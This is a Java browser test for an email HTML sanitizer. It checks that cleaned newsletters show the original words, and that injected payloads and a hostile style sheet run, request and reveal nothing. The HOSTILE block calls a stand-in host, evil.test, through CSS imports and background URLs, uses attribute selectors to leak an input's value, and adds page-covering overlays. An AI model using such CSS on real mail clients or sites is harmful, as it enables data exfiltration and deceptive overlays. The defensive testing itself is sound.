package io.pop3gateway.page;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Page;
import io.pop3gateway.mime.MimeLimits;
import io.pop3gateway.mime.html.ImageRule;
import io.pop3gateway.mime.html.SafeHtml;
import io.pop3gateway.testing.BesideOthers;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Newsletters in the styles of the programs that most of them are made with, as the author's HTML and as ours, on a phone and on a
 * desk: the same words are seen, and nothing runs off the side. Pictures of both lie in {@code target/newsletters}.
 */
@Tag("browser")
@BesideOthers
class NewsletterBrowserTest {

    @RegisterExtension
    static final BrowserExtension BROWSER = new BrowserExtension();

    private static final Path LETTERS =
            Path.of(System.getProperty("project.basedir", ".")).resolve("src/test/resources/mime-newsletters");
    private static final Path PICTURES =
            Path.of(System.getProperty("project.basedir", ".")).resolve("target/newsletters");

    /** What a person sees: words with a box that nothing hides or cuts away. */
    private static final String VISIBLE =
            """
            () => {
              const seen = [];
              const nodes = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
              while (nodes.nextNode()) {
                const range = document.createRange();
                range.selectNodeContents(nodes.currentNode);
                let shown = [...range.getClientRects()].some((box) => box.width > 1 && box.height > 1 && box.right > 0);
                for (let at = nodes.currentNode.parentElement; at && shown; at = at.parentElement) {
                  const style = getComputedStyle(at);
                  const box = at.getBoundingClientRect();
                  const cut = style.overflow !== "visible" && (box.height <= 1 || box.width <= 1);
                  shown = !cut && style.visibility === "visible" && Number(style.opacity) > 0 && style.display !== "none";
                }
                if (shown) seen.push(...nodes.currentNode.data.split(/\\s+/).filter(Boolean));
              }
              return seen.sort();
            }
            """;

    /** Where a payload stands in its letter: what is harmless in one of them closes, or opens, something in another. */
    private static final List<String> PLACES = List.of(
            "PAYLOAD",
            "<div style='color: red'>PAYLOAD</div>",
            "<table><tr><td>PAYLOAD</table>",
            "<blockquote type=cite>PAYLOAD</blockquote>",
            "<p title=\"PAYLOAD\">a</p>",
            "<svg>PAYLOAD</svg>",
            "<style>PAYLOAD</style>",
            "<!--PAYLOAD-->");

    /** Style sheets that reach for what is around the letter, or for somebody else's server. */
    private static final String HOSTILE =
            """
            <style>
            @import url(https://evil.test/a.css); @import "https://evil.test/b.css";
            @font-face { font-family: x; src: url(https://evil.test/f.woff) }
            * { background: url(https://evil.test/all) !important; font-family: x }
            html, body, :root { display: none } #host, #secret, input { background: url(https://evil.test/host); display: none }
            input[value^=a], [value*=b], #secret:valid { background-image: url(https://evil.test/read) }
            #host ~ *, .letter { position: fixed; inset: 0; z-index: 2147483647; width: 100vw; height: 100vh }
            a, div, p, img, table, span, .o { position: fixed !important; top: 0; left: 0; width: 9999px; height: 9999px; z-index: 99 }
            .o { margin: -9999px; transform: translate(-500px, -500px) scale(99); outline: 9999px solid red; box-shadow: 0 0 0 9999px red }
            @media all { .o { position: absolute; top: -500px } } .o::before { content: url(https://evil.test/c); position: fixed; inset: 0 }
            @supports (display: grid) { .o { position: fixed } } @keyframes k { from { background: url(https://evil.test/k) } }
            </style><div class=o>over</div>
            """;

    static Stream<String> letters() throws IOException {
        try (Stream<Path> files = Files.list(LETTERS)) {
            return files.map(file -> file.getFileName().toString().replace(".html", "")).sorted().toList().stream();
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("letters")
    void newsletter_onPhoneAndDesk_showsTheWordsOfTheOriginalAndNoOthers(String name) throws IOException {
        String original = Files.readString(LETTERS.resolve(name + ".html"));
        String cleaned = clean(original);
        for (int width : new int[] {360, 1280}) {
            Page page = alone(new ArrayList<>());
            page.setViewportSize(width, 800);
            List<?> wanted = seen(page, original, name + "-" + width + "-original");
            int overflow = overflow(page);
            List<?> shown = seen(page, cleaned, name + "-" + width + "-shown");
            assertThat(shown).as("words of %s at %d pixels", name, width).isEqualTo(wanted);
            assertThat(overflow(page))
                    .as("pixels that %s runs off the side at %d", name, width)
                    .isLessThanOrEqualTo(Math.max(overflow, 0));
        }
    }

    /** With what stands around every letter, and a style sheet that is as hostile as the rest. */
    @Test
    void payloads_withAStyleSheet_runAskCoverAndReadNothing() throws IOException {
        List<String> ran = new ArrayList<>();
        List<String> asked = new ArrayList<>();
        Page page = alone(asked);
        page.onDialog(dialog -> {
            ran.add(dialog.message());
            dialog.dismiss();
        });
        int covered = 0;
        int read = 0;
        List<String> payloads = payloads();
        for (String payload : payloads) {
            StringBuilder letters = new StringBuilder();
            for (String place : PLACES) {
                letters.append(new SafeHtml(MimeLimits.defaults())
                        .clean(HOSTILE + place.replace("PAYLOAD", payload), ImageRule.INLINE, id -> Optional.empty())
                        .html());
            }
            show(page, letters.toString());
            covered += isFree(page) ? 0 : 1;
            read += isUnread(page) ? 0 : 1;
        }
        assertThat(List.of(ran.size(), asked.size(), covered, read))
                .as(
                        "of %d payloads: scripts, requests, letters over the page, reads by selector; %s %s",
                        payloads.size(), ran, asked)
                .containsOnly(0);
        assertThat(payloads.size() * PLACES.size()).as("payloads in all places").isGreaterThanOrEqualTo(3000);
    }

    /** The same browser does all of it for a style sheet that nobody cleaned. */
    @Test
    void styleSheet_notCleaned_asksCoversAndReads() {
        List<String> asked = new ArrayList<>();
        Page page = alone(asked);
        show(page, HOSTILE);
        assertThat(asked).as("requests").isNotEmpty();
        assertThat(isFree(page) || isUnread(page))
                .as("the page around the letter is as it was")
                .isFalse();
    }

    private static void show(Page page, String letter) {
        page.setContent("<style>#host{height:90px}#box{height:300px;overflow:auto}</style>"
                + "<div id=host>host <input id=secret value=abc></div><div id=box>" + letter + "</div>");
    }

    private static boolean isFree(Page page) {
        return (Boolean) page.evaluate("() => ['host', 'secret'].includes(document.elementFromPoint(20, 40)?.id)");
    }

    private static boolean isUnread(Page page) {
        return (Boolean) page.evaluate("() => { const s = getComputedStyle(document.getElementById('secret'));"
                + " return s.backgroundImage === 'none' && s.display !== 'none'; }");
    }

    private static List<String> payloads() throws IOException {
        try (InputStream json = NewsletterBrowserTest.class.getResourceAsStream("/mime-html/payloads.json")) {
            return new ObjectMapper().readValue(json, new TypeReference<List<String>>() {});
        }
    }

    private static String clean(String html) {
        String letter = new SafeHtml(MimeLimits.defaults())
                .clean(html, ImageRule.INLINE, id -> Optional.empty())
                .html();
        return "<!DOCTYPE html>\n<meta charset=\"utf-8\">\n" + letter;
    }

    private static Page alone(List<String> asked) {
        Page page = BROWSER.visit("about:blank", new Browser.NewContextOptions());
        page.route("**/*", route -> {
            asked.add(route.request().url());
            route.abort();
        });
        return page;
    }

    private static List<?> seen(Page page, String html, String picture) {
        page.setContent(html);
        page.screenshot(new Page.ScreenshotOptions().setPath(PICTURES.resolve(picture + ".png")));
        return (List<?>) page.evaluate(VISIBLE);
    }

    private static int overflow(Page page) {
        return ((Number) page.evaluate("() => document.documentElement.scrollWidth - innerWidth")).intValue();
    }
}
